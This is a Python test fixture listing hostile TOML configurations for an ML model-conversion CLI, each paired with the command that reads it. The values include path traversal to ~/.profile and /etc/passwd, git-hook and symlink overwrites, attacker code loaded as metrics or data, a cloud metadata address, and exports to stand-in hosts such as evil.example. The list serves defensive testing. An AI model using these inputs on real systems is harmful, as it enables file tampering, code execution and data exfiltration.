"""Configurations of strangers that name what is not theirs, each with the command that reads it."""

from typing import Any

MODEL = '[budget]\nmax-size-bytes = 1000000\n[model.m]\nsource = "int8.tflite"\n'
FLOAT = MODEL.replace("int8", "float") + '[model.m.convert]\nto = "float32"\n'
EMBED = FLOAT + '[model.m.embed]\ntarget = "python"\nout = "app"\n'
BENCH, CHECK, BUILD = ["bench", "int8.tflite"], ["check"], ["build"]
CONVERT = ["convert", "float.tflite", "--to", "float32"]
TUNE = ["tune", "float.tflite", "--data", "x.npz", "--max-drop", "0.1"]
TRAIN = ["train", "digits_cnn"]
DEBUG = ["debug", "float.tflite", "--calibration", "x.npz"]
DOCTOR = ["doctor", "int8.tflite", "x.npz"]

# By name: the configuration, the command, and links in the checkout as NAME>TARGET-IN-HOME.
HOSTILE: dict[str, tuple[Any, ...]] = {
    # Programs and machines
    "browser in the checkout": ('[bench]\nruntime = "web:./evil.sh"\n', BENCH),
    "browser by its path": ('[bench]\nruntime = "web:/bin/sh"\n', BENCH),
    "the browser of this machine": ('[bench]\nruntime = "web"\n', BENCH),
    "ssh with a configuration": ('[bench]\nruntime = "ssh:x?config=ssh_config"\n', BENCH),
    "ssh to anywhere": ('[bench]\nruntime = "ssh:me@evil.example"\n', BENCH),
    "a device": ('[bench]\nruntime = ["litert", "adb"]\nbinary = "evil.sh"\n', BENCH),
    "a server": ('[bench]\nruntime = "tfserving:http://169.254.169.254/v1/models/m"\n', BENCH),
    "browser in check": (MODEL + '[bench]\nruntime = "web:./evil.sh"\n', CHECK),
    "browser of one model": (MODEL + '[model.m.bench]\nruntime = "web:./evil.sh"\n', CHECK),
    "ssh in check": (MODEL + '[bench]\nruntime = "ssh:x?config=ssh_config"\n', CHECK),
    "browser in tune": ('[tune]\nruntime = "web:./evil.sh"\n', TUNE),
    "ssh in tune": ('[tune]\nruntime = "ssh:x?config=ssh_config"\n', TUNE),
    "a python in the checkout": ('[bench]\npython = "./evil.sh"\n', BENCH),
    "a python elsewhere": ('[bench]\npython = "/bin/sh"\n', BENCH),
    "a TPU": ('[train]\ntpu = "grpc://evil.example:8470"\n', TRAIN),
    # Code
    "code as data": ('[bench]\ndata = "evil:load"\n', BENCH),
    "code as a kind": ('[bench]\ndata = "function:evil:load"\n', BENCH),
    "code as a metric": ('[bench]\nmetric = ["top1", "evil:score"]\n', BENCH),
    "code as a metric of tune": ('[tune]\nmetric = "evil:score"\n', TUNE),
    "code as layers": ('[bench]\ncustom-objects = "./evil.py"\n', BENCH),
    "code as layers by name": ('[convert]\ncustom-objects = "evil"\n', CONVERT),
    "code as calibration": ('[convert]\ncalibration = "serve=evil:load"\n', CONVERT),
    "code in check": (MODEL + '[bench]\ndata = "evil:load"\n', CHECK),
    "code in build": (EMBED + 'data = "evil:load"\n', BUILD),
    # Trackers
    "MLflow on the network": (MODEL + '[check]\ntrack = "mlflow:http://evil.example"\n', CHECK),
    "MLflow's files": (MODEL + '[check]\ntrack = "mlflow:mlruns"\n', CHECK),
    "MLflow's database": (MODEL + '[check]\ntrack = "mlflow:sqlite:///../../.profile"\n', CHECK),
    "MLflow by file:": (MODEL + '[check]\ntrack = "mlflow:file:../../mlruns"\n', CHECK),
    "a CSV file above": (MODEL + '[check]\ntrack = "csv:../../.profile"\n', CHECK),
    "a CSV file by a link": (MODEL + '[check]\ntrack = "csv:log.csv"\n', CHECK, "log.csv>.profile"),
    "a new CSV file by a link": (MODEL + '[check]\ntrack = "csv:l.csv"\n', CHECK, "l.csv>.bashrc"),
    "event files above": (MODEL + '[check]\ntrack = "tensorboard:../../folder"\n', CHECK),
    "event files by a link": (MODEL + '[check]\ntrack = "tensorboard:tb"\n', CHECK, "tb>folder"),
    "event files by a URL": (MODEL + '[check]\ntrack = "tensorboard:gs://evil/x"\n', CHECK),
    # What check writes
    "an output above": (MODEL + '[check]\noutput = "text=../../.profile"\n', CHECK),
    "an output by its path": (MODEL + '[check]\noutput = ["json=/tmp/evil.json"]\n', CHECK),
    "an output by a link": (MODEL + '[check]\noutput = "text=o"\n', CHECK, "o>.profile"),
    "an output by a linked folder": (MODEL + '[check]\noutput = "text=d/o"\n', CHECK, "d>folder"),
    "an output in a folder to come": (
        MODEL + '[check]\noutput = "text=d/a/b/o"\n',
        CHECK,
        "d>folder",
    ),
    "an output around a link": (MODEL + '[check]\noutput = "text=d/../o"\n', CHECK, "d>folder"),
    "an output at home": (MODEL + '[check]\noutput = "text=~/.profile"\n', CHECK),
    "an output as a file: URL": (MODEL + '[check]\noutput = "text=file:../../.profile"\n', CHECK),
    "a hook of git": (MODEL + '[check]\noutput = "text=.git/hooks/pre-commit"\n', CHECK),
    "a hook of git in capitals": (MODEL + '[check]\noutput = "text=.GIT/hooks/a"\n', CHECK),
    "a lock above": (MODEL + '[check]\nlock = "../../.profile"\n', CHECK),
    "the lock as a link": (MODEL, CHECK, "edgeconv.lock>.profile"),
    "the lock as a link, updated": (MODEL, ["check", "--update"], "edgeconv.lock>.profile"),
    "the lock as a link, in build": (EMBED, BUILD, "edgeconv.lock>.profile"),
    "a report above": (MODEL + '[bench]\nout = "../../folder"\n', CHECK),
    "a report by a link": (MODEL + '[bench]\nout = "r"\n', CHECK, "r>folder"),
    # What is read
    "a model above": (MODEL.replace("int8", "../../secret"), CHECK),
    "a model by a link": (MODEL.replace("int8", "secret"), CHECK, "secret.tflite>secret.tflite"),
    "a model by its path": (MODEL.replace("int8.tflite", "/etc/passwd"), CHECK),
    "a model at home": (MODEL.replace("int8.tflite", "~/secret.tflite"), CHECK),
    "a checkpoint above": (
        FLOAT.replace("[model.m.c", 'checkpoint = "../../secret.tflite"\n[model.m.c'),
        CHECK,
    ),
    "slices above": (FLOAT.replace("[model.m.c", 'slices = "../../secret.txt"\n[model.m.c'), CHECK),
    "a baseline above": ('[bench]\nbaseline = "../../secret.tflite"\n', BENCH),
    "a training record above": ('[bench]\ntraining = "../../secret.txt"\n', BENCH),
    "samples above": ('[bench]\ndata = "../../secret.npz"\n', BENCH),
    "samples above, of a kind": ('[bench]\ndata = "npz:../../secret.npz"\n', BENCH),
    "samples by a link": ('[bench]\ndata = "s.npz"\n', BENCH, "s.npz>secret.npz"),
    "samples by a linked folder": ('[bench]\ndata = "d/secret.npz"\n', BENCH, "d>."),
    "samples by a pattern": ('[bench]\ndata = "tfrecord:d/*"\n', BENCH, "d/s.tfrecord>secret.txt"),
    "samples in a folder": ('[bench]\ndata = "images:d"\n', BENCH, "d/a/b.png>secret.txt"),
    "classes by another option": (
        '[bench]\ndata = "my-tfrecord?classes=../../secret.txt"\n',
        BENCH,
    ),
    "a version of a model by a link": (FLOAT.replace("float.tflite", "vs"), CHECK, "vs/1>folder"),
    "a version of a baseline by a link": ('[bench]\nbaseline = "vs"\n', BENCH, "vs/1>folder"),
    "a folder of trained models by a link": (
        '[train]\nout = "vs"\n',
        TRAIN,
        "vs/digits_cnn>folder",
    ),
    "samples as a file: URL": ('[bench]\ndata = "npz:file:///etc/passwd"\n', BENCH),
    "labels above": ('[bench]\ndata = "x.npy?labels=../../secret.npy"\n', BENCH),
    "classes above": ('[bench]\ndata = "images:d?classes=../../secret.txt"\n', BENCH),
    "a spec above": ('[bench]\ndata = "tfrecord:d?spec=../../secret.toml"\n', BENCH),
    "a data set above": ('[bench]\ndata = "tfds:mnist?dir=../../folder"\n', BENCH),
    "a data set by a name that climbs": ('[bench]\ndata = "tfds:../../folder"\n', BENCH),
    "steps above": ('[bench]\npreprocess = "../../secret.toml"\n', BENCH),
    "steps by a link": ('[convert]\npreprocess = "s.toml"\n', CONVERT, "s.toml>secret.toml"),
    "calibration above": ('[convert]\ncalibration = "../../secret.npz"\n', CONVERT),
    "calibration that looks keyed": (
        '[convert]\ncalibration = "a=d.npz"\n',
        CONVERT,
        "a=d.npz>secret.npz",
    ),
    "training samples above": ('[convert]\ntraining = "../../secret.npz"\n', CONVERT),
    "calibration of tune above": ('[tune]\ncalibration = "../../secret.npz"\n', TUNE),
    "preprocessing of debug above": ('[debug]\npreprocess = "../../secret.toml"\n', DEBUG),
    "preprocessing of doctor above": ('[doctor]\npreprocess = "../../secret.toml"\n', DOCTOR),
    # What the other commands write
    "artifacts above": ('[convert]\nout = "../../folder"\n', CONVERT),
    "artifacts by a link": ('[convert]\nout = "o"\n', CONVERT, "o>folder"),
    "artifacts of a model above": (FLOAT + 'out = "../../folder"\n', CHECK),
    "the artifacts' usual folder as a link": (FLOAT, CHECK, "m.tflites>folder"),
    "the same in build": (EMBED, BUILD, "m.tflites>folder"),
    "tuned files above": ('[tune]\nout = "../../folder"\n', TUNE),
    "an app above": (EMBED.replace('"app"', '"../../folder"'), BUILD),
    "an app by a link": (EMBED, BUILD, "app>folder"),
    "labels of an app above": (EMBED + 'labels = "../../secret.txt"\n', BUILD),
    "a depfile above": (EMBED + '[build]\ndepfile = "../../.profile"\n', BUILD),
    "a depfile of embed above": (EMBED + 'depfile = "../../.profile"\n', BUILD),
    "trained models above": ('[train]\nout = "../../folder"\n', TRAIN),
    "trained models far away": ('[train]\nout = "gs://evil/models"\n', TRAIN),
    "checkpoints above": ('[train]\ncheckpoint-dir = "../../folder"\n', TRAIN),
    "logs above": ('[train]\ntensorboard-dir = "../../folder"\n', TRAIN),
    "training data above": ('[train]\ndata = "../../secret.npz"\n', TRAIN),
    "node data above": ('[visualize]\nout = "../../.profile"\n', ["visualize", "int8.tflite"]),
    "a demo above": ('[demo]\nout = "../../folder"\n', ["demo"]),
    "a page above": ('[report]\nout = "../../folder"\n', ["report", "x.json"]),
}
